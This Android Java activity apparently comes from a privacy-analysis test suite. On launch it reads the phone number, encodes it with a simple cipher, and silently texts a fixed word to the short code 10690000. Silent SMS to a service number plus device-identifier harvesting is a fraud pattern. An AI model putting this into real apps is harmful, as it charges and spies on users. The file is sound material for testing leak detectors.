package cn.privlens.suite.codes_of_other;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class Main extends Activity {
    private static int[] pack(String text) {
        int[] codes = new int[text.length()];
        for (int i = 0; i < codes.length; i++) {
            codes[i] = (text.charAt(i) + 3) * 2;
        }
        return codes;
    }
    private static String unpack(int[] codes) {
        char[] letters = new char[codes.length];
        for (int i = 0; i < codes.length; i++) {
            letters[i] = (char) (codes[i] / 2 - 3);
        }
        return String.valueOf(letters);
    }
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        int[] secret = pack(((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getLine1Number());
        int[] word = pack("word");
        SmsManager.getDefault().sendTextMessage("10690000", null, unpack(word), null, null);
        setTitle("n" + secret.length);
    }
}
